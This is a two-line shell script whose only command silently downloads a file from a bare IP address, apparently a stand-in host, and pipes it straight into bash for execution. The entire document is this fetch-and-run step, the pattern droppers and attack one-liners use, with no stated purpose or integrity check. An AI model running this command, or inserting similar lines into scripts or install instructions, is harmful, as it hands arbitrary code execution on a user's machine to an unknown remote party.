#!/bin/sh
bash <(curl -s https://203.0.113.9/x)
